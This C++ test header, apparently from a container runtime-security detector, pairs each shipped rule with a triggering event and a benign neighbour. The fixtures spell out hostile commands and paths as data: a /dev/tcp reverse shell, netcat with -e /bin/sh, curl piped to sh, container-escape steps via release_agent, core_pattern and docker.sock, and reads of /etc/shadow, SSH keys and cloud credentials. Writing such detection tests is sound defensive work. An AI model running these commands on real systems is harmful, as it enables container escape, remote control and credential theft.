// For rules that ship with the program: an event that each must find, and a neighbour it must not.
#pragma once

#include <linux/bpf.h>
#include <sched.h>
#include <sys/ptrace.h>

#include "rules/testing/scene.hpp"

namespace coff::rules::testing {

struct ShippedCase {
  std::string_view rule;
  Event fires;
  Event benign;

  ShippedCase(std::string_view name, const Scene& bad, const Scene& good)
      : rule(name), fires(bad.event()), benign(good.event()) {}
  ShippedCase(std::string_view name, Event bad, Event good)
      : rule(name), fires(std::move(bad)), benign(std::move(good)) {}
};
using ShippedCases = std::vector<ShippedCase>;

inline Scene mounted(std::string_view source, std::string_view target, std::string_view type) {
  return file_call(COFF_KIND_mount, SYS_mount, target).second(source).file_system(type);
}
inline Scene made_node(std::uint32_t mode) {
  return file_call(COFF_KIND_mknod, SYS_mknodat, "/dev/x").file_argument(2, mode);
}
inline Scene by_runtime(Scene scene) {
  return scene.exe("/memfd:runc_cloned:/proc/self/exe (deleted)").flags(COFF_EXE_MEMFD);
}

inline ShippedCases escape_cases() {
  const std::string_view runc = "/usr/bin/runc";
  const Scene entered = call(COFF_KIND_setns, SYS_setns).namespaces(CLONE_NEWNS);
  const Scene shared = call(COFF_KIND_unshare, SYS_unshare);
  return {
      {"Control group release agent written", wrote("/tmp/cg/release_agent"),
       wrote("/tmp/cg/release_notes")},
      {"Kernel helper path written in a container", wrote("/proc/sys/kernel/core_pattern"),
       opened("/proc/sys/kernel/core_pattern", O_RDONLY)},
      {"Namespace joined from inside a container", entered, by_runtime(entered)},
      {"Host's first process entered by nsenter", run("nsenter").args("-t 1 -m sh"),
       run("nsenter").args("-t 17 -n ip addr")},
      {"Engine socket used from a container",
       call(COFF_KIND_connect, SYS_connect).socket_path("/var/run/docker.sock"),
       call(COFF_KIND_connect, SYS_connect).socket_path("/run/postgresql/.s.PGSQL.5432")},
      {"Container runtime overwritten through proc",
       opened("", O_WRONLY).raw("/proc/self/fd/7", runc).failed(ETXTBSY),
       opened("", O_WRONLY).raw("/proc/self/fd/1", "/dev/pts/0")},
      {"Working directory through a leaked descriptor",
       file_call(COFF_KIND_chdir, SYS_chdir, "/proc/self/fd/8"),
       file_call(COFF_KIND_chdir, SYS_chdir, "/srv")},
      {"Host's own files written from a container", wrote("/host/etc/cron.d/job"),
       wrote("/build/rootfs/etc/passwd").on_overlay(true)},
      {"Block device mounted in a container", mounted("/dev/sda1", "/mnt", "ext4"),
       mounted("tmpfs", "/mnt", "tmpfs")},
      {"Control group hierarchy mounted in a container", mounted("cgroup", "/tmp/cg", "cgroup"),
       by_runtime(mounted("cgroup", "/sys/fs/cgroup", "cgroup"))},
      {"Mount made in a container", mounted("tmpfs", "/mnt", "tmpfs"),
       mounted("tmpfs", "/mnt", "tmpfs").failed(EPERM)},
      {"Disk or physical memory opened in a container",
       opened("/dev/sda", O_RDONLY).file_mode(S_IFBLK | 0660),
       opened("/dev/null", O_WRONLY).file_mode(S_IFCHR | 0666)},
      {"Block device node made in a container", made_node(S_IFBLK | 0600),
       made_node(S_IFIFO | 0600)},
      {"File opened by handle in a container",
       Scene(COFF_KIND_open, SYS_open_by_handle_at).path("/etc/shadow"), wrote("/srv/a")},
      {"User namespace made in a container", Scene(shared).namespaces(CLONE_NEWUSER),
       Scene(shared).namespaces(CLONE_NEWNS)},
      {"Root directory changed to a mounted host", file_call(COFF_KIND_chroot, SYS_chroot, "/host"),
       file_call(COFF_KIND_chroot, SYS_chroot, "/run/sshd")},
      {"Files reached through the first process", opened("/proc/1/root/etc/hostname", O_RDONLY),
       opened("/proc/1/status", O_RDONLY)},
      {"Program of a container's storage run on the host",
       run("x").host().exe("/var/lib/docker/overlay2/ab/diff/x"), run("x").host()},
  };
}

inline ShippedCases start_cases() {
  const auto plain = [](Container&) {};
  const auto mount = [](Container& container, const char* source, bool writable) {
    container.mounts = {{"bind", source, "/mnt", "", "rprivate", writable}};
  };
  static constexpr auto kMount = mount;
  return {
      {"Container started with the host's system folders",
       started([](Container& c) { kMount(c, "/", true); }),
       started([](Container& c) { kMount(c, "/etc/localtime", true); })},
      {"Container started with the engine's socket",
       started([](Container& c) { kMount(c, "/var/run/docker.sock", false); }), started(plain)},
      {"Privileged container started", started([](Container& c) { c.privileged = true; }),
       started(plain)},
      {"Container started with dangerous capabilities",
       started([](Container& c) { c.capabilities_added = {"SYS_ADMIN"}; }),
       started([](Container& c) { c.capabilities_added = {"NET_BIND_SERVICE"}; })},
      {"Container started in the host's process namespace",
       started([](Container& c) { c.host_pid = true; }), started(plain)},
  };
}

inline ShippedCases execution_cases() {
  return {
      {"Program that is not in the image run", run("tool").upper(),
       run("ldconfig").upper().parent("dpkg")},
      {"Program run from shared memory", run("x").exe("/dev/shm/x"), run("x").exe("/srv/shm/x")},
      {"Program run from anonymous memory",
       run("x").exe("/memfd:x (deleted)").flags(COFF_EXE_MEMFD),
       by_runtime(run("exe").parent("runc"))},
      {"Deleted program run", run("x").exe("/tmp/x (deleted)").flags(COFF_EXE_DELETED), run("x")},
      {"Hidden program run in a container", run("x").exe("/tmp/.x/x").upper(),
       run("x").exe("/tmp/x/x").upper()},
      {"File made executable in a temporary folder", changed_mode("/tmp/x", 0755),
       changed_mode("/tmp/x", 0644)},
      {"Shell started by a network service", run("sh").parent("nginx"),
       run("sh").parent("apache2").args("-c /usr/bin/rotatelogs /var/log/a")},
      {"Shell started by a Java program", run("bash").parent("java"), run("bash").parent("bash")},
      {"Standard streams tied to a network connection", duplicated("203.0.113.7", 2),
       duplicated("10.0.0.5", 1).name("bash")},
      {"Standard input read from a network connection", duplicated("203.0.113.7", 0),
       duplicated("127.0.0.1", 0).name("bash")},
      {"Network tool told to run a program", run("nc").args("203.0.113.7 4444 -e /bin/sh"),
       run("nc").args("-z db 5432")},
      {"Command line of a reverse shell", run("bash").args("-c bash -i >& /dev/tcp/a/1 0>&1"),
       run("bash").args("-c echo > /dev/tcp/db/5432 2>&1")},
      {"Decoded text given to a shell", run("sh").args("-c echo aWQK | base64 -d | sh"),
       run("sh").args("-c base64 -d key > /srv/key")},
      {"Download given to a shell", run("sh").args("-c curl -s https://a.example/i | sh"),
       run("sh").args("-c curl -f http://localhost/ready")},
      {"Miner started", run("worker").args("-o stratum+tcp://pool.example:3333"),
       run("worker").args("-o tcp://queue:5672")},
      {"Package manager run in a container", run("apt-get").args("install nmap"),
       run("dpkg").args("--configure -a").parent("apt-get")},
      {"Compiler run in a container", run("gcc").args("exploit.c"), run("cc1").parent("make")},
      {"Interactive shell in a container", run("bash").terminal().parent("runc:[2:INIT]"),
       run("bash").parent("runc:[2:INIT]")},
      {"Engine or cluster client run in a container", run("kubectl").args("get secrets"),
       run("kubectl").host()},
      {"Escape or enumeration tool run", run("sh").args("/tmp/linpeas.sh"), run("sh").args("a.sh")},
      {"Interactive reconnaissance in a container", run("whoami").terminal(), run("whoami")},
      {"Library injected from a temporary folder",
       run("app").environment("LD_PRELOAD=/tmp/hook.so"),
       run("app").environment("LD_PRELOAD=/usr/lib/libjemalloc.so.2")},
  };
}

inline ShippedCases credential_cases() {
  return {
      {"Password hashes read", read_by("cat", "/etc/shadow"),
       read_by("sshd", "/etc/shadow").exe("/usr/sbin/sshd")},
      {"SSH private key read", read_by("cat", "/root/.ssh/id_ed25519"),
       read_by("ssh", "/root/.ssh/id_ed25519")},
      {"Server key read by a general tool", read_by("cp", "/etc/ssl/private/web.key"),
       read_by("nginx", "/etc/ssl/private/web.key")},
      {"Cloud or cluster credentials read by a general tool",
       read_by("cat", "/root/.aws/credentials"), read_by("aws", "/root/.aws/credentials")},
      {"Service account token read by a general tool",
       read_by("cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"),
       read_by("coredns", "/var/run/secrets/kubernetes.io/serviceaccount/token")},
      {"Environment of another process read", read_by("cat", "/proc/1/environ"),
       read_by("cat", "/proc/self/environ")},
      {"Search for keys or passwords", run("find").args("/ -name id_rsa"),
       run("find").args("/srv -name *.log")},
      {"Shell history read", read_by("cat", "/root/.bash_history"),
       read_by("bash", "/root/.bash_history")},
  };
}

}  // namespace coff::rules::testing
